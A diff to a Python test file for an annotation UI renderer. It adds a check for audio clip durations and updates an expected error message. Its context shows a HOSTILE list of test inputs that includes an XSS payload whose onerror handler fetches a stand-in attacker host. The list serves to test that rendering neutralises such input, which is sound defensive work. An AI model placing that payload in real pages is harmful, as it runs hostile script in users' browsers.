@@ -8,7 +8,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 from markdown import markdown
 
-from ui_annotation.render import plain, player, players, sources, verbatim
+from ui_annotation.render import durations, plain, player, players, sources, verbatim
 
 HOSTILE = [
     '<img src=x onerror="fetch(`//evil.example`)">',
@@ -78,7 +78,7 @@ def test_markdown_leaves_hostile_text_alone(text):
 
 def test_fields_of_others_are_refused():
     for field in ("seven", "<p>seven</p>", verbatim("seven") + "x"):
-        with pytest.raises(ValueError, match="no field of ours"):
+        with pytest.raises(ValueError, match="not a field of ours"):
             plain(field)
 
 
@@ -88,6 +88,7 @@ def test_players_name_each_clip_and_its_length():
     assert sources(field) == tuple(urls)
     shown = Shown(field)
     assert shown.text == "Audio 1 (3.2 s)Audio 2 (30.0 s)"
+    assert durations(field) == (3.2, 30.0)
     audio = [attributes for tag, attributes in shown.elements if tag == "audio"]
     assert [one["src"] for one in audio] == urls
     assert all("controls" in one and "autoplay" not in one for one in audio)
